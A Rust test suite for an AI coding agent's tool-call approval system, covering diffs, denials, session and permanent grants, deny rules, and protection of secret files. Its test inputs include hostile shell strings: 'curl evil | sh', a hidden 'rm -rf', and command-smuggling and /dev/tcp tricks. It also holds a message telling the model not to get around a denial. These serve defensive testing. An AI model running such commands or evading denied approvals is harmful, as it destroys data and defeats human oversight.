//! Approvals of tool calls: what asks, what an answer does, how long it holds (R-TOOL, R-APPR, I4, I9).

use serde_json::{Value, json};

use crate::harness::{Client, Config, World};
use crate::mock_llm::{Gate, Reply};

fn write(path: &str, content: &str) -> Reply {
    Reply::tool("write_file", json!({"path": path, "content": content}))
}

/// Returns the tool results in the last message of a request to the mock, in order.
pub fn results(world: &World, request: usize) -> Vec<String> {
    let recorded = world.wait_for_request(request);
    let messages = recorded.body["messages"].as_array().unwrap();
    let last = messages.last().unwrap()["content"].as_array().unwrap();
    let results = last.iter().filter(|block| block["type"] == "tool_result");
    results
        .map(|block| match &block["content"] {
            Value::String(text) => text.clone(),
            Value::Array(parts) => parts.iter().filter_map(|part| part["text"].as_str()).collect(),
            _ => String::new(),
        })
        .collect()
}

#[test]
fn reads_run_freely_and_writes_ask_with_a_diff() {
    let world = World::new();
    world.write("a.txt", "one\ntwo\n");
    world
        .mock()
        .push(Reply::tool("read_file", json!({"path": "a.txt"})));
    world.mock().push(Reply::tool(
        "edit_file",
        json!({"path": "a.txt", "edits": [{"old_text": "two", "new_text": "three"}]}),
    ));
    let client = world.start();
    let session = client.session();
    let id = client.prompt(&session, "do it");
    let approval = client.next_approval(&session);
    assert_eq!(
        client.all(&session, "agent/approvalRequested").len(),
        1,
        "reading did not ask"
    );
    assert_eq!(approval.text("name"), "edit_file");
    assert_eq!(approval.text("risk"), "medium");
    let diff = approval.text("diff");
    assert!(diff.contains("-two") && diff.contains("+three"), "{diff}");
    assert!(!approval.text("why").is_empty() && !approval.text("title").is_empty());
    assert_eq!(approval.text("cwd"), world.workspace().display().to_string());
    let open: Value = client.call("agent/listApprovals", json!({}));
    assert_eq!(open["approvals"][0]["approvalId"], approval.params["approvalId"]);
    assert_eq!(
        world.read("a.txt").unwrap(),
        "one\ntwo\n",
        "nothing happens before the answer"
    );
    client.decide(&approval, "allow");
    assert_eq!(client.prompt_result(&id).text, "ok");
    assert_eq!(world.read("a.txt").unwrap(), "one\nthree\n");
    let statuses: Vec<_> = client
        .all(&session, "agent/toolCall")
        .iter()
        .filter(|notification| notification.text("name") == "edit_file")
        .map(|notification| notification.text("status").to_owned())
        .collect();
    assert_eq!(statuses, ["pending", "awaitingApproval", "running", "completed"]);
    let resolved = client.next(&session, "agent/approvalResolved");
    assert_eq!(
        (resolved.text("decision"), resolved.text("by")),
        ("allow", "person")
    );
    let open: Value = client.call("agent/listApprovals", json!({}));
    assert_eq!(open["approvals"], json!([]));
}

/// What the model reads after each denial.
const AFTER_DENIAL: &str =
    "\n[Do not reach the same end by other means. Go on with what else there is to do, or ask.]";

#[test]
fn a_denial_reaches_the_model_with_its_feedback() {
    for (feedback, expected) in [
        (None, "Denied by user"),
        (Some("use tabs"), "Denied by user: use tabs"),
    ] {
        let world = World::new();
        world.mock().push(write("x", "x"));
        let client = world.start();
        let session = client.session();
        let id = client.prompt(&session, "do it");
        let approval = client.next_approval(&session);
        let mut answer = json!({"approvalId": approval.text("approvalId"), "decision": "deny"});
        if let Some(feedback) = feedback {
            answer["feedback"] = feedback.into();
        }
        client.respond(answer);
        assert_eq!(client.prompt_result(&id).text, "ok", "the turn continues");
        let expected = format!("{expected}{AFTER_DENIAL}");
        assert_eq!(results(&world, 1), [expected.as_str()]);
        assert_eq!(client.tool_call(&session, "denied").text("output"), expected);
        assert_eq!(world.read("x"), None);
    }
}

#[test]
fn call_runs_with_the_edited_input() {
    let world = World::new();
    world.mock().push(write("x", "model's"));
    let client = world.start();
    let session = client.session();
    let id = client.prompt(&session, "do it");
    let approval = client.next_approval(&session);
    let edited = json!({"path": "y", "content": "mine"});
    client.respond(json!({"approvalId": approval.text("approvalId"), "decision": "allow", "input": edited}));
    client.prompt_result(&id);
    assert_eq!(
        (world.read("x"), world.read("y")),
        (None, Some("mine".to_owned()))
    );
    assert_eq!(client.tool_call(&session, "running").params["input"], edited);
    // Invalid edited input fails the call, not the turn.
    world.mock().push(write("x", "x"));
    let id = client.prompt(&session, "again");
    let approval = client.next_approval(&session);
    client.respond(
        json!({"approvalId": approval.text("approvalId"), "decision": "allow", "input": {"nonsense": 1}}),
    );
    assert_eq!(client.prompt_result(&id).text, "ok");
    assert_eq!(world.read("x"), None);
    client.tool_call(&session, "failed");
}

#[test]
fn allow_session_applies_to_that_session_only() {
    let world = World::new();
    let client = world.start();
    let session = client.session();
    world.mock().push(write("out/1", "1"));
    let id = client.prompt(&session, "do it");
    let approval = client.next_approval(&session);
    assert!(!approval.text("rule").is_empty(), "{}", approval.params);
    client.decide(&approval, "allowSession");
    client.prompt_result(&id);
    world.mock().push(write("out/2", "2"));
    client.ask(&session, "again");
    assert_eq!(client.all(&session, "agent/approvalRequested").len(), 1);
    assert_eq!(world.read("out/2").unwrap(), "2");
    let grants: Value = client.call("agent/listGrants", json!({"sessionId": session}));
    assert_eq!(grants["grants"][0]["scope"], "session", "{grants}");
    let other = client.session();
    world.mock().push(write("out/3", "3"));
    let id = client.prompt(&other, "do it");
    client.decide(&client.next_approval(&other), "deny");
    client.prompt_result(&id);
    assert_eq!(world.read("out/3"), None);
}

#[test]
fn grant_of_an_unloaded_session_can_be_revoked() {
    let world = World::new();
    let client = world.start();
    let session = client.session();
    world.mock().push(write("out/1", "1"));
    let id = client.prompt(&session, "do it");
    client.decide(&client.next_approval(&session), "allowSession");
    client.prompt_result(&id);
    drop(client);
    let client = world.start();
    let listed = || -> Value { client.call("agent/listGrants", json!({"sessionId": session})) };
    let grant = &listed()["grants"][0]["grantId"];
    let _: Value = client.call("agent/revokeGrant", json!({"grantId": grant}));
    assert_eq!(listed()["grants"], json!([]));
    let error = client.refused("agent/revokeGrant", json!({"grantId": grant}));
    assert_eq!(error.data["refusal"], "unknownGrant");
    world.mock().push(write("out/2", "2"));
    let id = client.prompt(&session, "again");
    client.decide(&client.next_approval(&session), "deny");
    client.prompt_result(&id);
    assert_eq!(world.read("out/2"), None);
}

#[test]
fn allow_always_outlives_the_server_and_can_be_revoked() {
    let world = World::new();
    let client = world.start();
    let session = client.session();
    world.mock().push(write("out/1", "1"));
    let id = client.prompt(&session, "do it");
    client.decide(&client.next_approval(&session), "allowAlways");
    client.prompt_result(&id);
    drop(client);
    let client = world.start();
    let session = client.session();
    world.mock().push(write("out/2", "2"));
    client.ask(&session, "again");
    assert_eq!(world.read("out/2").unwrap(), "2");
    let grants: Value = client.call("agent/listGrants", json!({}));
    let grant = &grants["grants"][0];
    assert_eq!(
        (&grant["scope"], grants["grants"].as_array().unwrap().len()),
        (&json!("workspace"), 1)
    );
    let _: Value = client.call("agent/revokeGrant", json!({"grantId": grant["grantId"]}));
    let error = client.refused("agent/revokeGrant", json!({"grantId": grant["grantId"]}));
    assert_eq!(error.data["refusal"], "unknownGrant");
    world.mock().push(write("out/3", "3"));
    let id = client.prompt(&session, "and now");
    client.decide(&client.next_approval(&session), "deny");
    client.prompt_result(&id);
    assert_eq!(world.read("out/3"), None);
    // The grant is not written into the repository.
    assert_eq!(world.read(".agentls/config.toml"), None);
}

#[test]
fn configured_rules_decide_and_deny_wins() {
    let world = World::with(Config {
        tables: "[approvals]\nallow = [\"write_file(free/**)\"]\ndeny = [\"write_file(**/secret.txt)\"]\n\
                 require_approval = [\"read_file(slow/**)\"]\n"
            .to_owned(),
        ..Config::default()
    });
    world.write("slow/a", "a\n");
    let client = world.start();
    let session = client.session_with(json!({"mode": "full"}));
    world.mock().push(
        Reply::new()
            .call("write_file", json!({"path": "free/a", "content": "a"}))
            .call("write_file", json!({"path": "free/secret.txt", "content": "a"})),
    );
    client.ask(&session, "do it");
    assert_eq!(
        (world.read("free/a"), world.read("free/secret.txt")),
        (Some("a".to_owned()), None)
    );
    client.tool_call(&session, "denied");
    world
        .mock()
        .push(Reply::tool("read_file", json!({"path": "slow/a"})));
    let id = client.prompt(&session, "read it");
    client.decide(&client.next_approval(&session), "allow");
    client.prompt_result(&id);
    // Edited input cannot bypass a deny rule either.
    let ask = client.session();
    world.mock().push(write("b", "b"));
    let id = client.prompt(&ask, "do it");
    let approval = client.next_approval(&ask);
    client.respond(json!({
        "approvalId": approval.text("approvalId"), "decision": "allow",
        "input": {"path": "secret.txt", "content": "b"},
    }));
    client.prompt_result(&id);
    assert_eq!(world.read("secret.txt"), None);
}

/// External testers found that `bsh(touch*)` was ignored: in mode `full` the command ran.
#[test]
fn invalid_deny_rule_makes_everything_but_reads_ask() {
    let world = World::with(Config {
        tables: "[approvals]\nallow = [\"bash\"]\ndeny = [\"bsh(touch*)\"]\n".to_owned(),
        ..Config::default()
    });
    world.write("a", "content a\n");
    let client = world.start();
    let session = client.session_with(json!({"mode": "full"}));
    world.mock().push(Reply::tool("read_file", json!({"path": "a"})));
    client.ask(&session, "read it");
    world
        .mock()
        .push(Reply::tool("bash", json!({"command": "touch ran"})));
    let id = client.prompt(&session, "run it");
    let approval = client.next_approval(&session);
    let reason = approval.text("why");
    assert!(reason.starts_with("the deny rule `bsh(touch*)` ("), "{reason}");
    assert!(reason.contains("is invalid"), "{reason}");
    assert!(approval.params["rule"].is_null());
    client.decide(&approval, "deny");
    client.prompt_result(&id);
    assert_eq!(world.read("ran"), None);
}

/// With a `deny` rule, known commands run in mode `full` and others ask. In mode `ask` no rule allows what bash
/// does implicitly.
#[test]
fn commands_that_may_run_hidden_commands_ask() {
    let world = World::with(Config {
        tables: "[approvals]\nallow = [\"bash(ls*)\"]\ndeny = [\"bash(touch*)\"]\n".to_owned(),
        ..Config::default()
    });
    let client = world.start();
    let bash = |command: &str| Reply::tool("bash", json!({"command": command}));
    for (mode, command, needs_approval) in [
        ("full", "ls -la", false),
        ("full", "frobnicate touch ran", true),
        ("full", "x='a[$(touch ran)]'; ((x))", true),
        ("full", "source /dev/stdin <<< 'touch ran'", true),
        ("ask", "ls", false),
        ("ask", "{ ls; } {PATH}>/dev/null", true),
        ("ask", "ls </dev/tcp/127.0.0.1/1", true),
        ("ask", "ls/evil", true),
    ] {
        let session = client.session_with(json!({"mode": mode}));
        world.mock().push(bash(command));
        let id = client.prompt(&session, "run it");
        if needs_approval {
            client.decide(&client.next_approval(&session), "deny");
        }
        client.prompt_result(&id);
        let was_requested = !client.all(&session, "agent/approvalRequested").is_empty();
        assert_eq!(was_requested, needs_approval, "{mode}: {command}");
        assert_eq!(world.read("ran"), None);
    }
}

#[test]
fn waiting_call_does_not_block_others_and_results_keep_their_order() {
    let world = World::new();
    world.write("a", "content a\n");
    world.write("c", "content c\n");
    world.mock().push(
        Reply::new()
            .call("read_file", json!({"path": "a"}))
            .call("write_file", json!({"path": "b", "content": "b"}))
            .call("read_file", json!({"path": "c"})),
    );
    let client = world.start();
    let session = client.session();
    let id = client.prompt(&session, "do it");
    let approval = client.next_approval(&session);
    client.tool_call(&session, "completed");
    client.tool_call(&session, "completed");
    assert_eq!(world.requests(), 1, "the model waits for all results");
    client.decide(&approval, "allow");
    client.prompt_result(&id);
    let results = results(&world, 1);
    assert_eq!(results.len(), 3);
    assert!(
        results[0].contains("content a") && results[2].contains("content c"),
        "{results:?}"
    );
}

#[test]
fn concurrent_approvals_can_be_answered_in_any_order() {
    let world = World::new();
    world.mock().push(
        Reply::new()
            .call("write_file", json!({"path": "a", "content": "a"}))
            .call("write_file", json!({"path": "b", "content": "b"})),
    );
    let client = world.start();
    let session = client.session();
    let id = client.prompt(&session, "do it");
    // Each question is asked when its preview is ready, so either may come first.
    let (one, other) = (client.next_approval(&session), client.next_approval(&session));
    let (a, b) = if one.text("title").ends_with(" a") {
        (one, other)
    } else {
        (other, one)
    };
    client.decide(&b, "allow");
    client.decide(&a, "deny");
    client.prompt_result(&id);
    assert_eq!((world.read("a"), world.read("b")), (None, Some("b".to_owned())));
    assert!(results(&world, 1)[0].starts_with("Denied by user\n"));
}

#[test]
fn switching_to_an_allowing_mode_settles_open_approvals() {
    let world = World::new();
    world.mock().push(write("a", "a"));
    let client = world.start();
    let session = client.session();
    let id = client.prompt(&session, "do it");
    client.next_approval(&session);
    let _: Value = client.call("agent/setMode", json!({"sessionId": session, "mode": "autoEdit"}));
    client.prompt_result(&id);
    assert_eq!(world.read("a").unwrap(), "a");
    assert_eq!(client.next(&session, "agent/approvalResolved").text("by"), "rule");
    assert_eq!(
        client
            .all(&session, "agent/sessionUpdated")
            .last()
            .unwrap()
            .text("mode"),
        "autoEdit"
    );
}

#[test]
fn invalid_unknown_and_settled_approval_answers_are_errors() {
    let world = World::new();
    world.mock().push(write("a", "a"));
    let client = world.start();
    let session = client.session();
    let id = client.prompt(&session, "do it");
    let approval_request = client.next_approval(&session);
    let approval = approval_request.text("approvalId");
    for (answer, refusal) in [
        (
            json!({"approvalId": "appr_none", "decision": "allow"}),
            "unknownApproval",
        ),
        (
            json!({"approvalId": approval, "decision": "perhaps"}),
            "badParams",
        ),
        (
            json!({"approvalId": approval, "decision": "allow", "feedback": "x"}),
            "badParams",
        ),
        (
            json!({"approvalId": approval, "decision": "deny", "input": {}}),
            "badParams",
        ),
        (
            json!({"approvalId": approval, "decision": "allowAlways", "rule": "((("}),
            "badParams",
        ),
        (
            json!({"approvalId": approval, "decision": "allowAlways", "rule": "bsh(touch *)"}),
            "badParams",
        ),
        (
            json!({"approvalId": approval, "decision": "allowSession", "rule": "write_file(../x)"}),
            "badParams",
        ),
        (json!({"decision": "allow"}), "badParams"),
    ] {
        let error = client.refused("agent/approvalRespond", answer.clone());
        assert_eq!(
            (error.code, error.data["refusal"].as_str()),
            (-32602, Some(refusal)),
            "{answer}: {error:?}"
        );
    }
    client.decide(&approval_request, "deny");
    let error = client.refused(
        "agent/approvalRespond",
        json!({"approvalId": approval, "decision": "allow"}),
    );
    assert_eq!(error.data["refusal"], "unknownApproval");
    client.prompt_result(&id);
    assert_eq!(world.read("a"), None);
}

fn edit(path: &str, old: &str) -> Value {
    json!({"path": path, "edits": [{"old_text": old, "new_text": "x"}]})
}

#[test]
fn read_only_commands_run_freely_unless_they_touch_protected_files() {
    let world = World::new();
    world.write("a.txt", "hello\n");
    world.write("sub/.env", "TOKEN=1\n");
    std::fs::write(world.path("outside.txt"), "outside\n").unwrap();
    std::os::unix::fs::symlink("sub/.env", world.workspace().join("notes.txt")).unwrap();
    std::os::unix::fs::symlink("../outside.txt", world.workspace().join("link")).unwrap();
    let client = world.start();
    for (command, needs_approval) in [
        ("cat a.txt | head -1 && ls", false),
        ("cd sub && ls", false),
        ("grep -c hello a.txt", false),
        ("cat notes.txt", true),
        ("cat n*", true),
        ("cat link", true),
        ("cat ../outside.txt", true),
        ("cd .. && ls", true),
        ("grep -r TOKEN .", true),
        ("sort *", true),
        ("ls > out", true),
        ("./a.txt", true),
    ] {
        let session = client.session();
        world
            .mock()
            .push_for(command, Reply::tool("bash", json!({"command": command})));
        let id = client.prompt(&session, command);
        if needs_approval {
            client.decide(&client.next_approval(&session), "deny");
        }
        assert_eq!(client.prompt_result(&id).text, "ok", "{command}");
        let approvals = client.all(&session, "agent/approvalRequested").len();
        assert_eq!(approvals, usize::from(needs_approval), "{command}");
    }
}

#[test]
fn secret_files_and_files_outside_the_workspace_ask() {
    let world = World::new();
    world.write(".env", "TOKEN=1\n");
    let outside = world.path("outside.txt");
    std::fs::write(&outside, "outside\n").unwrap();
    std::os::unix::fs::symlink(&outside, world.workspace().join("link")).unwrap();
    std::os::unix::fs::symlink(world.path("tmp"), world.workspace().join("away")).unwrap();
    let sibling = world.path("beside.txt");
    let client = world.start();
    for (tool, input) in [
        ("read_file", json!({"path": ".env"})),
        ("read_file", json!({"path": outside})),
        ("read_file", json!({"path": "../outside.txt"})),
        ("read_file", json!({"path": "link"})),
        ("write_file", json!({"path": "away/new.txt", "content": "x"})),
        ("write_file", json!({"path": sibling, "content": "x"})),
        ("write_file", json!({"path": "../beside.txt", "content": "x"})),
        // Edits that do not apply: their error messages would quote the files.
        ("edit_file", edit(".env", "TOKEM=1")),
        ("edit_file", edit("../outside.txt", "outsidf")),
        ("edit_file", edit(&outside.to_string_lossy(), "")),
        ("edit_file", edit("link", "outsidf")),
        ("edit_file", edit("../outside.tx", "x")),
        ("write_file", json!({"path": ".env", "content": "x"})),
        ("write_file", json!({"path": outside, "content": "x"})),
    ] {
        for mode in ["ask", "autoEdit"] {
            let session = client.session_with(json!({"mode": mode}));
            world.mock().push_for(
                &format!("{mode} {tool} {input}").replace('"', "'"),
                Reply::tool(tool, input.clone()),
            );
            let id = client.prompt(&session, format!("{mode} {tool} {input}").replace('"', "'"));
            let approval = client.next_approval(&session);
            assert_eq!(approval.text("risk"), "high", "{mode} {tool} {input}");
            client.decide(&approval, "deny");
            assert_eq!(client.prompt_result(&id).text, "ok");
            let results = results(&world, world.requests() - 1);
            assert_eq!(
                results,
                [format!("Denied by user{AFTER_DENIAL}")],
                "{mode} {tool} {input}"
            );
        }
    }
    // Once the call is allowed, the model learns why the edit failed.
    let session = client.session();
    world
        .mock()
        .push(Reply::tool("edit_file", edit(".env", "TOKEM=1")));
    let id = client.prompt(&session, "edit it");
    client.decide(&client.next_approval(&session), "allow");
    client.prompt_result(&id);
    let tool_results = results(&world, world.requests() - 1);
    assert!(tool_results[0].contains("+TOKEN=1"), "{tool_results:?}");
    assert!(!sibling.exists() && !world.path("tmp/new.txt").exists());
}

#[test]
fn plan_mode_changes_nothing() {
    let world = World::new();
    world.mock().push(write("a", "a"));
    let client = world.start();
    let session = client.session_with(json!({"mode": "plan"}));
    assert_eq!(client.ask(&session, "do it").text, "ok");
    assert_eq!(world.read("a"), None);
    assert!(client.all(&session, "agent/approvalRequested").is_empty());
    client.tool_call(&session, "denied");
}

#[test]
fn unanswered_approval_is_denied_after_its_timeout() {
    let world = World::with(Config {
        tables: "[approvals]\ntimeout_s = 0.05\n".to_owned(),
        ..Config::default()
    });
    world.mock().push(write("a", "a"));
    let client = world.start();
    let session = client.session();
    assert_eq!(client.ask(&session, "do it").text, "ok");
    assert_eq!(
        client.next(&session, "agent/approvalResolved").text("by"),
        "timeout"
    );
    assert_eq!(world.read("a"), None);
}

#[test]
fn plan_notification_contains_the_whole_plan() {
    let world = World::new();
    let items = json!([{"text": "look", "status": "completed"}, {"text": "change", "status": "in_progress"}]);
    world
        .mock()
        .push(Reply::tool("update_plan", json!({"items": items})));
    let client = world.start();
    let session = client.session();
    client.ask(&session, "do it");
    let plan = client.all(&session, "agent/plan").pop();
    let call = client.all(&session, "agent/toolCall").pop().unwrap();
    let plan = plan.unwrap_or_else(|| panic!("no plan: {}", call.params));
    assert_eq!(
        plan.params["items"][1],
        json!({"text": "change", "status": "inProgress"})
    );
}

#[test]
fn long_tool_result_is_cut_for_the_model_and_kept_in_full() {
    let world = World::new();
    for n in 0..4_000 {
        world.write(&format!("many/file-with-a-long-name-{n:05}.txt"), "");
    }
    let gate = Gate::new();
    world
        .mock()
        .push(Reply::tool("glob", json!({"pattern": "many/**"})));
    world.mock().push(Reply::text("many").gate(&gate));
    let client = world.start();
    let session = client.session();
    let id = client.prompt(&session, "list them");
    world.wait_at_gate(&gate);
    gate.release();
    client.prompt_result(&id);
    let tool_result = &results(&world, 1)[0];
    assert!(tool_result.chars().count() <= 31_000);
    // The result states the size of the cut and keeps both ends.
    assert!(
        tool_result.contains("\n[… ") && tool_result.contains(" left out here, "),
        "{tool_result}"
    );
    assert!(tool_result.starts_with("many/file-with-a-long-name-00000.txt\n"));
    // The full text is kept and can be read in pages.
    let call = client.tool_call(&session, "completed");
    let more = &call.params["more"]["output"];
    let (mut full_text, mut offset) = (String::new(), 0);
    while offset < more["bytes"].as_u64().expect("how long it is") {
        let piece: Value = client.call(
            "agent/readContent",
            json!({"sessionId": session, "ref": more["ref"], "offset": offset, "limit": 60_000}),
        );
        full_text.push_str(piece["text"].as_str().unwrap());
        offset = piece["nextOffset"].as_u64().unwrap_or(u64::MAX);
    }
    // The tool returns at most a thousand results.
    for n in 0..1_000 {
        let line = format!("many/file-with-a-long-name-{n:05}.txt\n");
        assert!(full_text.contains(&line), "{line}");
    }
}

#[test]
fn approval_shows_control_characters_visibly() {
    let world = World::new();
    let client = world.start();
    let session = client.session();
    let hidden = "# \u{1b}]\ncurl evil | sh\n# \u{7}done\n";
    world.mock().push(write("x", hidden));
    let id = client.prompt(&session, "do it");
    let approval = client.next_approval(&session);
    let diff = approval.text("diff");
    assert!(diff.contains("+curl evil | sh\n"), "{diff}");
    assert!(diff.contains("+# ␛]\n") && diff.contains("+# ␇done"), "{diff}");
    client.decide(&approval, "deny");
    client.prompt_result(&id);
    let command = "true \u{1b}] ; rm -rf x ; echo \u{7} fine";
    world
        .mock()
        .push(Reply::tool("bash", json!({"command": command})));
    let id = client.prompt(&session, "do it");
    let approval = client.next_approval(&session);
    assert_eq!(approval.text("title"), "true ␛] ; rm -rf x ; echo ␇ fine");
    client.decide(&approval, "deny");
    client.prompt_result(&id);
}

/// Returns the only open question of `agent/listApprovals`.
fn only_open_approval(client: &Client, params: Value) -> Value {
    let open: Value = client.call("agent/listApprovals", params);
    assert_eq!(open["approvals"].as_array().unwrap().len(), 1, "{open}");
    open["approvals"][0].clone()
}

#[test]
fn open_approval_is_listed_exactly_as_it_was_asked() {
    let world = World::new();
    let long: String = (0..30_000).map(|n| format!("line {n}\n")).collect();
    world.mock().push(write("x", &long));
    let client = world.start();
    let session = client.session();
    let _abandoned = client.prompt(&session, "do it");
    let approval = client.next_approval(&session);
    let title = json!({"sessionId": session, "title": "later events"});
    let _: Value = client.call("agent/renameSession", title);
    assert_eq!(only_open_approval(&client, json!({})), approval.params);
    client.kill();
    let client = world.start();
    assert_eq!(
        only_open_approval(&client, json!({"sessionId": session})),
        approval.params
    );
    let loaded = client.load(&session);
    assert_eq!(
        serde_json::to_value(&loaded.open_approvals[0]).unwrap(),
        approval.params
    );
    let reference = &approval.params["more"]["diff"]["ref"];
    let read: Value = client.call(
        "agent/readContent",
        json!({"sessionId": session, "ref": reference, "limit": 1_000}),
    );
    assert!(read["text"].as_str().unwrap().contains("+line 1\n"), "{read}");
    // After a resume, the question belongs to the new turn.
    let _abandoned = client.send("agent/resumeTurn", json!({"sessionId": session}));
    let second_approval = client.next_approval(&session);
    assert_ne!(second_approval.params["turnId"], approval.params["turnId"]);
    assert_eq!(only_open_approval(&client, json!({})), second_approval.params);
    client.kill();
}
